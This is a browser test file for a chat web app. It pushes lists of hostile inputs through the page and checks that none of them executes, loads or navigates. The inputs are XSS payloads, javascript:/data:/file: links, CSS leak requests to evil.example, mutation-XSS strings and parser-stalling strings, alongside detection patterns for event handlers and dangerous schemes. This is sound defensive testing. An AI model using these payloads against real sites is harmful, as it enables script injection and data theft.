import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { type Browser, chromium, type Page } from 'playwright-core';
import { type Stack, startStack } from '../helpers/stack.ts';

/**
 * Hostile HTML and Markdown from a model, from a person and in a notice, in a real Chromium: all of it is shown and
 * none of it runs, loads, navigates, or makes an element that it should not.
 */

const CHROMIUM_ARGS = [
  ...['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run'],
  ...['--disable-background-networking', '--disable-component-update', '--disable-sync'],
];

const HACK = 'window.hacked=1';
const SCRIPTS = [
  `<script>${HACK}</script>`,
  `<img src=x onerror="${HACK}">`,
  `<svg onload="${HACK}"><animate onbegin="${HACK}" attributeName=x></svg>`,
  `<iframe srcdoc="<script>parent.${HACK}</script>"></iframe>`,
  `<iframe src="javascript:${HACK}"></iframe>`,
  `<object data="javascript:${HACK}"></object><embed src="//evil.example/x.swf">`,
  `<details open ontoggle="${HACK}"><summary>x</summary></details>`,
  `<body onload="${HACK}"><input autofocus onfocus="${HACK}"><video><source onerror="${HACK}"></video>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${HACK}&gt;">`,
  `<form action="https://evil.example/"><button formaction="javascript:${HACK}">x</button></form>`,
  `<base href="https://evil.example/"><link rel=stylesheet href="//evil.example/x.css"><meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<style>*{background:url(https://evil.example/leak)}</style><p style="background:url(https://evil.example/leak)">`,
  `"><script>${HACK}</script><"`,
  `</div></main></body><script>${HACK}</script>`,
  `<a href="javascript:${HACK}" target=_self>x</a>`,
  `<template><script>${HACK}</script></template><noscript><p title="</noscript><img src=x onerror=${HACK}>">`,
];
const MARKDOWN = [
  `[click](javascript:${HACK})`,
  `[click]( javascript:${HACK})`,
  `[click](JaVaScRiPt:${HACK})`,
  `[click](java\tscript:${HACK})`,
  `[click](\u0001javascript:${HACK})`,
  `[click](&#106;avascript:${HACK})`,
  `[click](data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+)`,
  `[click](vbscript:x) [click](blob:https://x/y) [click](file:///etc/passwd)`,
  `[x](https://evil.example/"onmouseover="${HACK})`,
  `[<img src=x onerror=${HACK}>](https://example.com/)`,
  `![x](https://evil.example/pixel.png) ![x](x"onerror="${HACK})`,
  `<https://evil.example/> <javascript:${HACK}>`,
  `[ref]: javascript:${HACK} "x"\n[ref]`,
  `# <img src=x onerror=${HACK}>\n> <svg onload=${HACK}>\n- <script>${HACK}</script>\n1. [x](javascript:${HACK})`,
  `\`\`\`"><script>${HACK}</script>\n<img src=x onerror=${HACK}>\n\`\`\``,
  `\`\`\`html onload=${HACK}\n</code></pre><script>${HACK}</script>\n\`\`\``,
  `\`<img src=x onerror=${HACK}>\` **<b onclick=${HACK}>b</b>** _<i>_`,
  `| <img src=x onerror=${HACK}> | x |\n|---|---|\n| [x](javascript:${HACK}) | y |`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the hostile text
  '\u202Egnp.exe \u0000 \uFFFE \uD800 \u2028 {{constructor.constructor("window.hacked=1")()}} ${window.hacked=1}',
  '&lt;script&gt;window.hacked=1&lt;/script&gt; &#60;script&#62;',
  'https://evil.example/#"><script>window.hacked=1</script> http://a"onclick="window.hacked=1',
];
/** What makes careless parsers take for ever. */
const HEAVY = [
  '['.repeat(40_000),
  '[a]('.repeat(10_000),
  '*a '.repeat(13_000),
  '**a*'.repeat(10_000),
  '_'.repeat(40_000),
  '`'.repeat(20_000) + 'a`'.repeat(10_000),
  '`a``b'.repeat(8_000),
  '> '.repeat(20_000),
  `${'- '.repeat(15_000)}x`,
  Array.from({ length: 2_000 }, (_, depth) => `${' '.repeat(depth % 12)}- x`).join('\n'),
  'https://a.b/'.repeat(3_500),
  '\\'.repeat(40_000),
  `${'#'.repeat(40_000)} x`,
  '<'.repeat(40_000),
];

let stack: Stack;
let browser: Browser;
before(async () => {
  [stack, browser] = await Promise.all([
    startStack(null, {
      workers: 1,
      gatewayEnv: { API_KEYS: 'key-of-a-system-that-may-send' },
      workerEnv: {
        HANDLER: fileURLToPath(new URL('../fixtures/parrot-handler.ts', import.meta.url)),
      },
    }),
    chromium.launch({
      executablePath: process.env.CHROMIUM_PATH ?? '/usr/bin/chromium',
      args: CHROMIUM_ARGS,
    }),
  ]);
});
after(async () => {
  await browser?.close();
  await stack?.stop();
});

/** What went wrong on the page, of all that could. */
interface Watch {
  page: Page;
  harms: string[];
}

async function openPage(user: string): Promise<Watch> {
  const { http } = stack.gateways[0]!;
  const context = await browser.newContext();
  const page = await context.newPage();
  page.setDefaultTimeout(30_000);
  const harms: string[] = [];
  page.on('dialog', (dialog) => {
    harms.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    const { origin } = new URL(request.url());
    if (origin !== http) harms.push(`a request to ${request.url()}`);
  });
  page.on('popup', (popup) => harms.push(`a window: ${popup.url()}`));
  page.on('pageerror', (error) => harms.push(`an error: ${error.message}`));
  page.on('framenavigated', (frame) => {
    if (new URL(frame.url()).origin !== http) harms.push(`went to ${frame.url()}`);
  });
  await page.addInitScript(() => {
    // A violation means that something got as far as the last line of defence.
    document.addEventListener('securitypolicyviolation', (event) => {
      (window as never as { violations: string[] }).violations ??= [];
      (window as never as { violations: string[] }).violations.push(event.violatedDirective);
    });
  });
  await page.goto(`${http}/?userId=${user}`);
  await page.waitForSelector('#connection[data-state=ready]');
  return { page, harms };
}

async function assertUnharmed({ page, harms }: Watch, what: string): Promise<void> {
  const found = await page.evaluate(() => {
    const bad: string[] = [];
    const own = window as never as { hacked?: unknown; violations?: string[] };
    if (own.hacked) bad.push('a script ran');
    for (const directive of own.violations ?? []) bad.push(`stopped by the policy only: ${directive}`);
    const tags =
      'iframe, object, embed, base, form[action], style, template, math, video, audio, img, input[onfocus], frame';
    for (const element of document.body.querySelectorAll(`script, ${tags}`))
      if (!(element instanceof HTMLScriptElement && element.src.startsWith(location.origin)))
        bad.push(`an element: ${element.outerHTML.slice(0, 120)}`);
    for (const element of document.querySelectorAll('*'))
      for (const { name, value } of element.attributes) {
        if (/^on/i.test(name)) bad.push(`a handler: ${name}=${value.slice(0, 80)}`);
        if (
          /^(href|src|action|formaction|xlink:href|srcdoc|data)$/i.test(name) &&
          /^\s*(javascript|data|vbscript|blob|file):/i.test(value)
        )
          bad.push(`a link: ${name}=${value.slice(0, 80)}`);
      }
    for (const link of document.querySelectorAll<HTMLAnchorElement>('.prose a')) {
      if (!/^https?:$/.test(link.protocol)) bad.push(`a link: ${link.href}`);
      if (!/noopener/.test(link.rel)) bad.push(`a link that hands the window over: ${link.href}`);
    }
    return bad;
  });
  assert.deepEqual([...harms, ...found], [], what);
}

async function ask(page: Page, contents: string): Promise<void> {
  // Not `fill`: Chromium's own typing of some thousand lines into a text area takes many seconds.
  await page.locator('#question').evaluate((element: HTMLTextAreaElement, text) => {
    element.value = text;
    element.dispatchEvent(new Event('input', { bubbles: true }));
  }, contents);
  await page.press('#question', 'Enter');
  await page.waitForSelector('.turn:last-child[data-status="done"]');
}

for (const [name, list] of [
  ['HTML', SCRIPTS],
  ['Markdown', MARKDOWN],
] as const)
  test(`hostile ${name} from a person and from a model`, async (t) => {
    const watch = await openPage(`hostile-${name}`);
    t.after(() => watch.page.context().close());
    for (const contents of list) {
      await ask(watch.page, contents);
      await assertUnharmed(watch, contents);
    }
    // Links are the one thing that may be clicked: none of them goes where it should not.
    for (const link of await watch.page.locator('.prose a').all())
      assert.match((await link.getAttribute('href'))!, /^https?:\/\//);
    await watch.page.hover('.turn:last-child .prose');
    await watch.page.reload();
    await watch.page.waitForSelector('.turn');
    await assertUnharmed(watch, 'after a reload, from what was kept');
  });

test('what is shown of HTML is what was written', async (t) => {
  const watch = await openPage('hostile-shown');
  t.after(() => watch.page.context().close());
  await ask(watch.page, SCRIPTS[0]!);
  assert.equal(await watch.page.locator('.turn .prose').textContent(), SCRIPTS[0]);
  assert.ok((await watch.page.locator('.turn .bubble').textContent())!.includes(SCRIPTS[0]!));
});

test('text that makes careless parsers take for ever', async (t) => {
  const watch = await openPage('hostile-heavy');
  t.after(() => watch.page.context().close());
  for (const contents of HEAVY) {
    const started = Date.now();
    await ask(watch.page, contents);
    await assertUnharmed(watch, contents.slice(0, 20));
    const ms = Date.now() - started;
    assert.ok(ms < 10_000, `${ms} ms for ${contents.slice(0, 20)}…`);
  }
});

test('hostile notices and messages from people and systems', async (t) => {
  const watch = await openPage('hostile-people');
  t.after(() => watch.page.context().close());
  const gateway = stack.gateways[0]!;
  const other = await stack.client('hostile-sender');
  for (const [index, contents] of [...SCRIPTS, ...MARKDOWN].entries()) {
    const answer = await fetch(`${gateway.http}/v1/messages`, {
      method: 'POST',
      headers: {
        authorization: 'Bearer key-of-a-system-that-may-send',
        'content-type': 'application/json',
      },
      body: JSON.stringify({ to: index % 2 ? { all: true } : { user: 'hostile-people' }, contents }),
    });
    assert.equal(answer.status, 202, await answer.text());
    other.send({ type: 'send', messageId: `p${index}`, to: { user: 'hostile-people' }, contents });
    await other.next('sent', `p${index}`);
  }
  await new Promise((resolve) => setTimeout(resolve, 500)); // they are on their way, and nothing announces them all
  await assertUnharmed(watch, 'notices and messages');
});

test('hostile names: in the URL, in the user id, in what the page keeps', async (t) => {
  const { http } = stack.gateways[0]!;
  const watch = await openPage('hostile-url');
  t.after(() => watch.page.context().close());
  for (const query of [
    `?userId=${encodeURIComponent('"><img src=x onerror=window.hacked=1>')}`,
    `?userId=20001&gateway=${encodeURIComponent('javascript:window.hacked=1')}`,
    `?url=${encodeURIComponent('javascript:window.hacked=1')}#<img src=x onerror=window.hacked=1>`,
  ]) {
    await watch.page.goto(`${http}/${query}`);
    await watch.page.waitForSelector('#connection');
    await assertUnharmed(watch, query);
  }
});
